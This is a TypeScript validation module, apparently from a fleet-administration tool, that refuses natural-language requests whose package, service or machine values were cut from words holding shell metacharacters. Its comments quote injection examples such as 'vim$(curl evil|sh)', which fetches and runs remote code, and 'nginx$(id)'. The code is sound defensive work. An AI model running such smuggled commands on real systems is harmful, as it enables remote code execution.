import type { ReadRequest } from './request-reader.ts'

/**
 * Values are taken whole or refused, never cut short: the reader finds a name by its closed
 * character set, so "install vim$(curl evil|sh)" would read the package "vim" and "restart
 * nginx$(id)" the service "id". Here every value the reader took is looked up in the words of
 * the message; a value that is only a part of a word holding characters no parameter kind has
 * (shell and PowerShell metacharacters, quotes inside a word) refuses the request, naming the
 * whole word and the field. A quoted value holding such characters is refused the same way.
 * @module
 */

/**
 * Characters some parameter kind may hold (docs/operations.md): names, hosts, versions, paths.
 * Not "=", though a path may hold it: glued to a name it is a version pin ("nginx=1.2"), and a
 * path with one is taken when it is the whole word.
 */
const VALUE_CHARACTER = /[A-Za-z0-9@._+:~/\\-]/
/** Characters that continue a value on either side, so a value next to one is not a whole word. */
const CONTINUES = /[A-Za-z0-9_@+~-]/
/** Characters that make a quoted value a command, not a name. */
const COMMAND_CHARACTERS = /[;|&$`<>(){}*]/

/** The refusal when a value of this request was cut from a longer word; null when all are whole. */
export function cutValueRefusal(message: string, request: ReadRequest): string | null {
  for (const [, quoted] of message.matchAll(
    /(?<=^|\s)["'“‘]([^"'“”‘’\n]+)["'”’](?=$|[\s.,;:!?])/g,
  )) {
    if (quoted !== undefined && COMMAND_CHARACTERS.test(quoted)) return refusal(quoted, 'value')
  }
  const values = valuesOf(request)
  const words = message.trim().split(/\s+/)
  // "install tmxu on build01 tmux*": a star after the last word corrects a misspelt name.
  const last = words.length - 1
  if (words[last]?.endsWith('*')) words[last] = words[last].replace(/\*$/, '')
  const release = releaseSelectorRefusal(words, values)
  if (release !== null) return release
  for (const [field, value] of values) {
    for (const word of words) {
      if (holdsPartOf(word, value) && !listOf(word, values))
        return refusal(word.replace(/[.,;:!?]+$/, ''), field)
    }
  }
  return null
}

/**
 * "install python3-pip/bookworm-backports": after a package, "/" is apt's release selector
 * (name/release), not a second package. Reading two packages would install one that was never
 * asked for, and the package alone would drop the release asked for, so it is refused. Service
 * and process names cannot hold "/" (systemd units and Windows services refuse it), so there
 * "nginx/php-fpm" stays the shorthand for both.
 */
function releaseSelectorRefusal(
  words: readonly string[],
  values: ReadonlyArray<[field: string, value: string]>,
): string | null {
  const packages = values
    .filter(([field, value]) => field === 'package' && !value.includes('/'))
    .map(([, value]) => value.toLowerCase())
  for (const word of words) {
    const core = word.replace(/[.,;:!?]+$/, '')
    const pieces = core.toLowerCase().split('/')
    if (pieces.length < 2 || !pieces.some((piece) => packages.includes(piece))) continue
    return `"${core}" is not a valid package: "/" after a package name picks a release (apt's name/release), which the package steps do not take, and a value is never split or cut short; name the package alone (or each package, with "and"); nothing was prepared.`
  }
  return null
}

function refusal(word: string, field: string): string {
  const foreign = [...new Set([...word].filter((character) => !VALUE_CHARACTER.test(character)))]
  return `"${word}" is not a valid ${field}: it holds ${foreign.map((character) => `"${character}"`).join(', ')}, which no ${field} may hold, and a value is never cut short; nothing was prepared.`
}

/** Every value the reader took, with the field it fills: machines and groups first, then parameters. */
function valuesOf(request: ReadRequest): Array<[field: string, value: string]> {
  const values: Array<[string, string]> = []
  const { targets } = request
  for (const name of [
    ...targets.machines,
    ...(targets.except?.machines ?? []),
    ...request.unknownMachines,
  ])
    values.push(['machine', name])
  for (const name of [...targets.groups, ...(targets.except?.groups ?? [])])
    values.push(['group', name])
  for (const operation of request.operations) {
    for (const [name, value] of Object.entries(operation.parameters))
      values.push([name, String(value)])
  }
  // A value with a space spans words ("C:\Program Files"): its words are checked one by one.
  return values.filter(([, value]) => value !== '' && !/\s/.test(value))
}

/**
 * "web01;web02", "db01:5432": a word that is only values the reader took, joined by ";", ",",
 * ":" or "/", is a list (or a host and its port).
 */
function listOf(word: string, values: ReadonlyArray<[string, string]>): boolean {
  const taken = new Set(values.map(([, value]) => value.toLowerCase()))
  const pieces = word.replace(/[.,;:!?]+$/, '').split(/[;,:/]/)
  return pieces.length > 1 && pieces.every((piece) => taken.has(piece.toLowerCase()))
}

/** Is `value` a part of `word` (not all of it, once quotes, brackets and a possessive are off)? */
function holdsPartOf(word: string, value: string): boolean {
  const core = word
    .replace(/^["'“‘([{<]+/, '')
    .replace(/[.,;:!?)\]}>"'”’]+$/, '')
    .replace(/['’]s$/, '')
  const lower = core.toLowerCase()
  const wanted = value.toLowerCase()
  if (lower === wanted) return false
  if ([...core].every((character) => VALUE_CHARACTER.test(character))) return false
  for (let at = lower.indexOf(wanted); at !== -1; at = lower.indexOf(wanted, at + 1)) {
    const before = lower[at - 1] ?? ''
    const after = lower.slice(at + wanted.length)
    const continued =
      CONTINUES.test(before) || before === '.' || /^(?:[A-Za-z0-9_@+~-]|\.[a-z0-9])/.test(after)
    if (!continued) return true
  }
  return false
}
